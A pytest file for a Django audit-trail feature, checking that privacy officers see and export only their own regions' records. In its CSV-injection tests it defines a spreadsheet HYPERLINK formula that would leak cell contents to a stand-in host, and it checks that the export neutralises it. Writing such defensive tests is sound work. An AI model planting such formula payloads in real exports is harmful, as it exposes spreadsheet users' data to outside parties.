"""The privacy officer (FG) searches and exports the audit trail of their own regions."""

from __future__ import annotations

import csv
import io

import pytest
from django.urls import reverse

from inbeeld.accounts.models import OrganisationType, Role, User
from inbeeld.audit.models import Action, AuditEntry, Purpose
from inbeeld.audit.services import audit_record
from inbeeld.privacy.legal_bases import LegalBasis
from inbeeld.regions.models import Municipality
from inbeeld.signals.models import Signal
from inbeeld.signals.services import SignalInput, signal_create_partner
from inbeeld.testing.clients import verified_client
from inbeeld.testing.factories import MembershipFactory, OrganisationFactory, region, staff_user

pytestmark = pytest.mark.django_db


@pytest.fixture
def trail() -> dict[str, object]:
    zeeland = staff_user(role=Role.ZORGCOORDINATOR, region_code="VR19", username="zc.zeeland")
    ijssel = staff_user(role=Role.ZORGCOORDINATOR, region_code="VR04", username="zc.ijssel")
    audit_record(
        actor=zeeland,
        action=Action.READ,
        object_type="signals.signal",
        object_id="7",
        region="VR19",
        purpose=Purpose.TRIAGE,
    )
    audit_record(
        actor=ijssel,
        action=Action.READ,
        object_type="signals.signal",
        object_id="9",
        region="VR04",
        purpose=Purpose.TRIAGE,
    )
    return {"fg": staff_user(role=Role.FG, region_code="VR19", username="fg.zeeland")}


def test_the_fg_finds_who_read_a_record(trail: dict[str, object]) -> None:
    client = verified_client(trail["fg"])  # type: ignore[arg-type]
    page = client.get(reverse("audit:search"), {"object_type": "signals.signal", "object_id": "7"})
    html = page.content.decode()
    # The purpose is shown by its Dutch name, never the code.
    assert "zc.zeeland" in html and "Beoordeling van een signaal" in html


def test_the_fg_sees_only_their_own_regions(trail: dict[str, object]) -> None:
    client = verified_client(trail["fg"])  # type: ignore[arg-type]
    html = client.get(reverse("audit:search")).content.decode()
    assert "zc.zeeland" in html
    assert "zc.ijssel" not in html


def test_a_reversed_period_is_refused_with_a_field_error(trail: dict[str, object]) -> None:
    client = verified_client(trail["fg"])  # type: ignore[arg-type]
    response = client.get(reverse("audit:search"), {"since": "2026-02-01", "until": "2026-01-01"})
    assert 'id="id_until_error"' in response.content.decode()


def test_the_export_holds_the_selection_and_is_itself_recorded(trail: dict[str, object]) -> None:
    client = verified_client(trail["fg"])  # type: ignore[arg-type]
    response = client.get(reverse("audit:export"), {"person": "zc."})
    rows = list(csv.DictReader(io.StringIO(response.content.decode())))
    assert [row["actor"] for row in rows] == ["zc.zeeland"]
    export = AuditEntry.objects.filter(action=Action.EXPORT).get()
    assert export.actor == "fg.zeeland"
    assert export.detail == {"filter": {"person": "zc."}}


# --- Regions: the record's region decides, not the person's other roles --------------------


def zeeland_signal() -> Signal:
    goes = Municipality.objects.get(code="GM0664")
    organisation = OrganisationFactory.create(type=OrganisationType.SHELTER, region=goes.region)
    reporter = staff_user(role=Role.KETENPARTNER, organisation=organisation)
    signal, _new = signal_create_partner(
        data=SignalInput(municipality=goes, description="Acht mannen in één kamer."),
        by=reporter,
        organisation=organisation,
    )
    return signal


def works_in_both(username: str, role: str = Role.ZORGCOORDINATOR) -> User:
    """A person with a role in Zeeland (VR19) and one in IJsselland (VR04)."""
    person = staff_user(role=role, region_code="VR19", username=username)
    MembershipFactory.create(
        user=person, organisation=OrganisationFactory.create(region=region("VR04")), role=role
    )
    return person


def search_html(fg: User, **query: str) -> str:
    return verified_client(fg).get(reverse("audit:search"), query).content.decode()


def export_rows(fg: User, **query: str) -> list[dict[str, str]]:
    response = verified_client(fg).get(reverse("audit:export"), query)
    return list(csv.DictReader(io.StringIO(response.content.decode())))


def test_a_read_of_a_zeeland_signal_stays_out_of_the_ijsselland_fgs_search_and_export() -> None:
    signal, reader = zeeland_signal(), works_in_both("zc.beide")
    assert (
        verified_client(reader)
        .get(reverse("signals:detail", kwargs={"signal_id": signal.pk}))
        .status_code
        == 200
    )
    ijssel_fg = staff_user(role=Role.FG, region_code="VR04", username="fg.ijssel")
    zeeland_fg = staff_user(role=Role.FG, region_code="VR19", username="fg.zee")
    about_signal = {"object_type": "signals.signal", "object_id": str(signal.pk)}

    def reads(rows: list[dict[str, str]]) -> list[str]:
        return [row["actor"] for row in rows if row["action"] == Action.READ]

    assert "zc.beide" not in search_html(ijssel_fg, **about_signal)
    assert reads(export_rows(ijssel_fg, **about_signal)) == []
    assert "zc.beide" in search_html(zeeland_fg, **about_signal)
    assert reads(export_rows(zeeland_fg, **about_signal)) == ["zc.beide"]


def test_entries_without_a_region_go_to_the_fgs_of_the_regions_the_person_works_in() -> None:
    both = works_in_both("zc.beide")
    zeeland_only = staff_user(role=Role.ZORGCOORDINATOR, region_code="VR19", username="zc.zee")
    for person in (both, zeeland_only):
        audit_record(actor=person, action=Action.LOGIN, detail={"step": "password"})
    audit_record(actor=None, action=Action.LOGIN_FAILED, actor_name="zc.zee")
    audit_record(actor=None, action=Action.LOGIN_FAILED, actor_name="zc.beide")
    ijssel_fg = staff_user(role=Role.FG, region_code="VR04")
    zeeland_fg = staff_user(role=Role.FG, region_code="VR19")

    def seen(fg: User) -> set[tuple[str, str]]:
        return {(row["action"], row["actor"]) for row in export_rows(fg)}

    logins = {(Action.LOGIN, "zc.beide"), (Action.LOGIN_FAILED, "zc.beide")}
    zeeland_logins = {(Action.LOGIN, "zc.zee"), (Action.LOGIN_FAILED, "zc.zee")}
    assert logins <= seen(ijssel_fg) and not zeeland_logins & seen(ijssel_fg)
    assert logins | zeeland_logins <= seen(zeeland_fg)


def test_account_administration_of_a_zeeland_account_stays_out_of_ijsselland() -> None:
    beheerder = works_in_both("beheer.beide", role=Role.BEHEERDER)
    zeeland_account = staff_user(role=Role.ZORGCOORDINATOR, region_code="VR19")
    ijssel_account = staff_user(role=Role.ZORGCOORDINATOR, region_code="VR04")
    for account in (zeeland_account, ijssel_account):
        response = verified_client(beheerder).get(
            reverse("accounts:user_edit", kwargs={"user_id": account.pk})
        )
        assert response.status_code == 200
    ijssel_fg = staff_user(role=Role.FG, region_code="VR04")
    accounts_read = {
        row["object_id"]
        for row in export_rows(ijssel_fg, object_type="accounts.user", action=Action.READ)
    }
    assert accounts_read == {str(ijssel_account.pk)}


# --- The export runs no formula (CSV injection) --------------------------------------------


FORMULA = 'HYPERLINK("https://example.org/?"&A2,"open")'


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_an_organisation_name_that_starts_a_formula_is_exported_as_text(start: str) -> None:
    """Purposes are a closed list now; the free text left in an entry is what a beheerder
    typed: the names of the organisations the actor works for (and user names)."""
    organisation = OrganisationFactory.create(name=start + FORMULA, region=region("VR19"))
    coordinator = staff_user(role=Role.ZORGCOORDINATOR, organisation=organisation)
    audit_record(
        actor=coordinator,
        action=Action.READ,
        object_type="signals.signal",
        object_id="12",
        region="VR19",
        purpose=Purpose.TRIAGE,
    )
    rows = export_rows(staff_user(role=Role.FG, region_code="VR19"), action=Action.READ)
    row = next(row for row in rows if row["object_id"] == "12")
    assert row["organisations"] == "'" + start + FORMULA


def test_a_formula_typed_as_the_purpose_of_an_assignment_never_reaches_the_export() -> None:
    """The typed purpose stays (encrypted) on the share; the trail records the fixed purpose."""
    signal = zeeland_signal()
    police = OrganisationFactory.create(type=OrganisationType.POLICE, region=region("VR19"))
    officer = staff_user(role=Role.KETENPARTNER, organisation=police)
    coordinator = staff_user(role=Role.ZORGCOORDINATOR, region_code="VR19")
    response = verified_client(coordinator).post(
        reverse("signals:assign", kwargs={"signal_id": signal.pk}),
        {
            "to_user": officer.pk,
            "legal_basis": LegalBasis.POLICE_DATA,
            "purpose": "=" + FORMULA,
            "version": signal.version,
        },
    )
    assert response.status_code == 302
    rows = export_rows(staff_user(role=Role.FG, region_code="VR19"), action=Action.SHARE)
    assert [row["purpose"] for row in rows] == ["sharing"]
    assert not any(FORMULA in value for row in rows for value in row.values())


def test_numbers_in_the_export_are_written_as_they_are(trail: dict[str, object]) -> None:
    rows = export_rows(trail["fg"])  # type: ignore[arg-type]
    entry = AuditEntry.objects.get(object_id="7")
    row = next(row for row in rows if row["object_id"] == "7")
    assert row["id"] == str(entry.pk) and row["actor_id"] == str(entry.actor_id)


# --- Records by name -------------------------------------------------------------------------


def test_record_types_are_offered_by_name_and_records_shown_by_their_receipt_code() -> None:
    from django.db import connection
    from django.test.utils import CaptureQueriesContext

    from inbeeld.audit.services import audit_record_reads

    fg = staff_user(role=Role.FG, region_code="VR19")
    client = verified_client(fg)
    form = client.get(reverse("audit:search")).content.decode()
    assert '<select name="object_type"' in form
    assert '<option value="signals.signal">Signaal</option>' in form

    def page_queries() -> tuple[int, str]:
        with CaptureQueriesContext(connection) as queries:
            html = search_html(fg, object_type="signals.signal")
        return len(queries), html

    first = zeeland_signal()
    coordinator = staff_user(role=Role.ZORGCOORDINATOR, region_code="VR19")
    audit_record(actor=coordinator, action=Action.READ, target=first, purpose=Purpose.TRIAGE)
    few, html = page_queries()
    assert f"Signaal {first.receipt_code}" in html
    assert f"signals.signal {first.pk}" not in html
    more = [zeeland_signal() for _n in range(4)]
    audit_record_reads(actor=coordinator, records=more, purpose=Purpose.CASE_TABLE)
    many, html = page_queries()
    assert all(f"Signaal {signal.receipt_code}" in html for signal in more)
    assert many == few  # named in bulk: one query per kind of record, not one per row


def test_a_record_outside_the_fgs_regions_is_named_by_number_only() -> None:
    from inbeeld.signals.audit_names import signal_names

    signal = zeeland_signal()
    ijssel_fg = staff_user(role=Role.FG, region_code="VR04")
    assert signal_names(ijssel_fg, [str(signal.pk)]) == {}
    zeeland_fg = staff_user(role=Role.FG, region_code="VR19")
    assert signal_names(zeeland_fg, [str(signal.pk)]) == {str(signal.pk): signal.receipt_code}
